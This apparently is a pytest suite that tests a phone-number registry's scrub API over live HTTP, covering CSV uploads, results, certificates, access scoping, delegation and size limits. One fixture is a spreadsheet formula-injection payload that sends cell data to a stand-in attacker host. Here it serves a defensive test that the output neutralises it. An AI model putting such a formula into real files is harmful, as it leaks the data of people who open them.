"""File scrubs over real HTTP: upload a call list, poll it, download the result and certificate.

The server is the app on a real socket (``live_server``), every request a real
HTTP request (http.client, the body streamed from a file), every test commits
for real (marker ``live``); the worker is ``registry.scrubs.worker`` in this
process (tests/cli/test_scrub_worker.py kills real worker processes).
"""

from __future__ import annotations

import csv
import hashlib
import http.client
import io
import json
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit

import pytest
from flask import Flask, current_app
from sqlalchemy import func, select

from registry.api.gates import check_budget
from registry.checks.history import checks_for_phone
from registry.checks.models import CheckBatch, CheckLog
from registry.extensions import db
from registry.orgs import delegations
from registry.orgs import services as orgs
from registry.scrubs import worker
from registry.scrubs.models import ScrubChunk, ScrubJob
from registry.subscribers import services as subscribers
from tests import factories
from tests.api.test_check import give_consent
from tests.conftest import NOON, other_app

pytestmark = pytest.mark.live


class Http:
    """A JSON/CSV client for one API key over a real socket."""

    def __init__(self, base: str, key: str) -> None:
        self.base = urlsplit(base)
        self.key = key

    def request(
        self, method: str, path: str, body: Any = None, content_type: str = "text/csv"
    ) -> tuple[int, dict[str, str], bytes]:
        conn = http.client.HTTPConnection(self.base.hostname, self.base.port, timeout=600)
        headers = {"Authorization": f"Bearer {self.key}"}
        if body is not None:
            headers["Content-Type"] = content_type
            if hasattr(body, "read"):  # a file: streamed with its length
                headers["Content-Length"] = str(Path(body.name).stat().st_size)
        conn.request(method, f"/api/v1{path}", body=body, headers=headers)
        resp = conn.getresponse()
        data = resp.read()
        conn.close()
        return resp.status, dict(resp.getheaders()), data

    def json(self, method: str, path: str, body: Any = None, **kw: Any) -> tuple[int, Any]:
        status, _, data = self.request(method, path, body, **kw)
        return status, json.loads(data)

    def upload(self, body: Any, **query: str) -> tuple[int, Any]:
        query = {"sender": "acme-cards", "channel": "sms", "at": NOON, **query}
        return self.json("POST", "/scrubs?" + urlencode(query), body)


def run_worker(lease: float = 60) -> int:
    """Run every claimable job to its end in this process."""
    from datetime import timedelta

    return worker.work(
        db.session, current_app.config["REGISTRY"], "test-worker",
        lambda who, sender, channel: check_budget(sender, channel, who),
        lease=timedelta(seconds=lease), once=True,
    )  # fmt: skip


@pytest.fixture
def world() -> factories.World:
    with db.session() as session:
        return factories.world(session)


@pytest.fixture
def acme(live_server: str, world: factories.World) -> Http:
    return Http(live_server, world.keys["acme"])


@pytest.fixture
def shop(live_server: str, world: factories.World) -> Http:
    return Http(live_server, world.keys["shop"])


CONSENTED, DND, STRANGER = "+8613900000001", "+8613900000002", "+8613900000003"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def test_a_call_list_is_scrubbed_logged_and_certified(
    acme: Http, shop: Http, world: factories.World
) -> None:
    with db.session() as session:
        give_consent(session, world, CONSENTED)
        subscribers.set_preferences(session, DND, dnd_sms=True)
        session.commit()
    body = (
        "phone,name\r\n"
        f"{CONSENTED},Ann\r\n"
        "139 0000 0002,Bo\r\n"  # DND, written as people write it
        f"{STRANGER},Cy\r\n"
        f"{FORMULA},Dee\r\n"
        "\r\n"  # a blank line is no number
        f"{CONSENTED},again\r\n"
    ).encode()
    status, job = acme.upload(body)
    assert status == 202, job
    assert (job["status"], job["rows"], job["processed"]) == ("queued", 5, 0)
    assert job["input_sha256"] == hashlib.sha256(body).hexdigest()
    status, polled = acme.json("GET", f"/scrubs/{job['id']}")
    assert (status, polled["status"]) == (200, "queued")
    status, early = acme.json("GET", f"/scrubs/{job['id']}/result.csv")
    assert (status, early["error"]["code"]) == (409, "conflict")

    assert run_worker() == 1
    status, done = acme.json("GET", f"/scrubs/{job['id']}")
    assert done["status"] == "done", done
    assert (done["processed"], done["summary"]) == (5, {"allow": 2, "deny": 2, "invalid": 1})
    assert done["data_version"] is not None
    assert done["valid_until"] is not None

    status, headers, data = acme.request("GET", f"/scrubs/{job['id']}/result.csv")
    assert status == 200
    assert headers["Content-Type"].startswith("text/csv")
    assert hashlib.sha256(data).hexdigest() == done["result_sha256"]
    rows = _rows(data)
    assert [r["line"] for r in rows] == ["2", "3", "4", "5", "7"]
    assert [(r["phone"], r["decision"], r["reason"]) for r in rows] == [
        (CONSENTED, "allow", "consent"),
        (DND, "deny", "dnd"),
        (STRANGER, "deny", "no_consent"),
        ("", "invalid", "invalid_phone"),
        (CONSENTED, "allow", "consent"),
    ]
    assert rows[3]["input"] == "'" + FORMULA  # defused, never a formula
    assert rows[1]["input"] == "139 0000 0002"

    status, cert = acme.json("GET", f"/scrubs/{job['id']}/certificate")
    assert status == 200, cert
    assert cert["result_sha256"] == done["result_sha256"]
    assert cert["input_sha256"] == job["input_sha256"]
    assert (cert["organization"], cert["sender"], cert["rows"]) == ("acme", "acme-cards", 5)
    assert cert["summary"] == done["summary"]
    assert cert["valid_until"] == cert["checked_from"]
    status, verified = acme.json("GET", f"/certificates/{cert['certificate']}")
    assert (status, verified) == (200, cert)
    forged = cert["certificate"][:-2] + ("AA" if not cert["certificate"].endswith("AA") else "BB")
    status, refused = shop.json("GET", f"/certificates/{forged}")
    assert (status, refused["error"]["code"]) == (422, "validation_error")

    with db.session() as session:  # every number answered is in the check log, once
        logged = session.scalars(
            select(CheckLog.phone).where(CheckLog.sender_id == world.sender_ids["acme-cards"])
        ).all()
        assert sorted(logged) == sorted([CONSENTED, DND, STRANGER])
        seen = checks_for_phone(session, DND)
        assert [(c["sender_code"], c["organization"]) for c in seen] == [("acme-cards", "Acme")]
        assert session.scalar(select(func.count()).select_from(CheckBatch)) == 1


def test_only_the_uploading_organization_sees_its_job(acme: Http, shop: Http) -> None:
    status, job = acme.upload(f"{STRANGER}\n".encode())
    assert status == 202
    run_worker()
    for path in ("", "/result.csv", "/certificate"):
        status, refused = shop.json("GET", f"/scrubs/{job['id']}{path}")
        assert (status, refused["error"]["code"]) == (403, "forbidden"), path
        assert STRANGER not in json.dumps(refused)
        status, _, _ = acme.request("GET", f"/scrubs/{job['id']}{path}")
        assert status == 200
    status, missing = acme.json("GET", "/scrubs/999999")
    assert (status, missing["error"]["code"]) == (404, "not_found")
    status, other = shop.upload(f"{STRANGER}\n".encode())  # acme's sender, not shop's
    assert (status, other["error"]["code"]) == (403, "forbidden")


def test_a_file_of_1000001_lines_is_refused_whole(acme: Http, tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    with path.open("w") as fh:
        fh.writelines(f"+86139{i:08d}\n" for i in range(1_000_001))
    with path.open("rb") as fh:
        status, refused = acme.upload(fh)
    assert status == 413, refused
    assert refused["error"]["code"] == "too_large"
    assert "1000000 numbers" in refused["error"]["message"]
    with db.session() as session:  # nothing half-written
        assert session.scalar(select(func.count()).select_from(ScrubJob)) == 0
        assert session.scalar(select(func.count()).select_from(ScrubChunk)) == 0


def test_bad_files_are_clear_errors(acme: Http) -> None:
    cases = [
        (b"", 422, "validation_error", "no numbers"),
        (b"phone\n", 422, "validation_error", "no numbers"),
        (b"\xff\xfe+8613900000001\n", 422, "validation_error", "UTF-8"),
        (b"+8613900000001\x00\n", 422, "validation_error", "NUL"),
        (b'"+8613900000001\n', 422, "validation_error", "not CSV"),
    ]
    for body, status_code, code, words in cases:
        status, refused = acme.upload(body)
        assert (status, refused["error"]["code"]) == (status_code, code), (body, refused)
        assert words in refused["error"]["message"], refused
    status, refused = acme.upload(b"+8613900000001\n", channel="fax")
    assert (status, refused["error"]["code"]) == (422, "validation_error")
    status, refused = acme.upload(b"+8613900000001\n", sender="nobody")
    assert (status, refused["error"]["code"]) == (422, "unknown_sender")
    status, refused = acme.upload(b"+8613900000001\n", column="mobile")
    assert (status, refused["error"]["code"]) == (422, "validation_error")
    form = b'--x\r\nContent-Disposition: form-data; name="f"\r\n\r\n1\r\n--x--\r\n'
    status, refused = acme.json(
        "POST", "/scrubs?sender=acme-cards&channel=sms", form,
        content_type="multipart/form-data; boundary=x",
    )  # fmt: skip
    assert (status, refused["error"]["code"]) == (400, "bad_request")
    with db.session() as session:
        assert session.scalar(select(func.count()).select_from(ScrubJob)) == 0


def test_the_numbers_column_is_chosen_by_name(acme: Http) -> None:
    status, job = acme.upload(f"name,mobile\nAnn,{STRANGER}\n".encode(), column="mobile")
    assert status == 202, job
    run_worker()
    _, _, data = acme.request("GET", f"/scrubs/{job['id']}/result.csv")
    assert [(r["line"], r["phone"]) for r in _rows(data)] == [("2", STRANGER)]


def test_the_caps_are_the_settings(app: Flask, database_url: str, tmp_path: Path) -> None:
    from werkzeug.serving import make_server

    env = {"REGISTRY_SCRUB_MAX_ROWS": "3", "REGISTRY_SCRUB_MAX_JOBS": "1"}
    with other_app(database_url, tmp_path, **env) as small, small.app_context():
        with db.session() as session:
            world = factories.world(session)
        server = make_server("127.0.0.1", 0, small, threaded=True)
        import threading

        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            acme = Http(f"http://127.0.0.1:{server.server_port}", world.keys["acme"])
            status, refused = acme.upload("\n".join([STRANGER] * 4).encode())
            assert (status, refused["error"]["code"]) == (413, "too_large"), refused
            status, job = acme.upload("\n".join([STRANGER] * 3).encode())
            assert status == 202, job
            status, busy = acme.upload(STRANGER.encode())  # one job at a time
            assert (status, busy["error"]["code"]) == (429, "rate_limited"), busy
        finally:
            server.shutdown()
            thread.join(10)


def test_an_agent_scrubs_within_its_scope_and_stops_when_revoked(
    live_server: str, acme: Http, world: factories.World
) -> None:
    with db.session() as session:
        org = orgs.create_org(session, "callcenter", "Call Center", "sender")
        _, key = orgs.create_key(session, org)
        session.commit()
    agent = Http(live_server, key)
    status, refused = agent.upload(f"{STRANGER}\n".encode())
    assert (status, refused["error"]["code"]) == (403, "forbidden")
    status, grant = acme.json(
        "POST", "/delegations",
        json.dumps({"agent": "callcenter", "senders": ["acme-cards"], "scopes": ["optout"]}),
        content_type="application/json",
    )  # fmt: skip
    assert status == 201, grant
    status, refused = agent.upload(f"{STRANGER}\n".encode())  # no "check" scope
    assert (status, refused["error"]["code"]) == (403, "forbidden")
    status, grant = acme.json(
        "POST", "/delegations",
        json.dumps({"agent": "callcenter", "senders": ["acme-cards"], "scopes": ["check"]}),
        content_type="application/json",
    )  # fmt: skip
    assert status == 201, grant
    status, job = agent.upload(f"{STRANGER}\n".encode())
    assert status == 202, job
    status, refused = acme.json("GET", f"/scrubs/{job['id']}")  # the agent's job, not acme's
    assert status == 403
    run_worker()
    status, cert = agent.json("GET", f"/scrubs/{job['id']}/certificate")
    assert (cert["organization"], cert["on_behalf_of"]) == ("callcenter", "acme")
    with db.session() as session:
        row = session.execute(select(CheckLog.agent_id, CheckLog.organization_id)).one()
        assert row == (org.id, world.org_ids["acme"])
    # Revoked before the worker runs: the job fails, nothing is answered for it.
    status, job = agent.upload(f"{DND}\n".encode())
    with db.session() as session:
        delegations.revoke(session, world.org_ids["acme"], grant["id"])
        session.commit()
    run_worker()
    status, failed = agent.json("GET", f"/scrubs/{job['id']}")
    assert failed["status"] == "failed", failed
    assert "forbidden" in failed["error"]
    status, refused = agent.json("GET", f"/scrubs/{job['id']}/result.csv")
    assert status == 409
    with db.session() as session:
        assert session.scalar(select(func.count()).where(CheckLog.phone == DND)) == 0


def test_a_spent_cold_budget_makes_the_job_wait_with_nothing_half_done(
    app: Flask, database_url: str, tmp_path: Path
) -> None:
    cold = "2 per hour"
    with other_app(database_url, tmp_path, REGISTRY_RATELIMIT_COLD_CHECK=cold) as small, small.app_context():  # fmt: skip
        with db.session() as session:
            world = factories.world(session)
            key = world.keys["acme"]
            job_id = _queue(session, small, key, [STRANGER, DND, "+8613900000004"])
        run_worker()
        with db.session() as session:
            job = session.get(ScrubJob, job_id)
            assert job is not None
            assert (job.status, job.processed, job.chunks_done) == ("waiting", 0, 0)
            assert "not a directory" in (job.error or "")
            assert session.scalar(select(func.count()).select_from(CheckLog)) == 0


def _queue(session: Any, app: Flask, key: str, numbers: list[str]) -> int:
    """Queue a job through the app's own test client (the HTTP path is tested above)."""
    client = app.test_client()
    resp = client.post(
        "/api/v1/scrubs?sender=acme-cards&channel=sms",
        data="\n".join(numbers).encode(),
        headers={"Authorization": f"Bearer {key}", "Content-Type": "text/csv"},
    )
    assert resp.status_code == 202, resp.get_json()
    return int(resp.get_json()["id"])
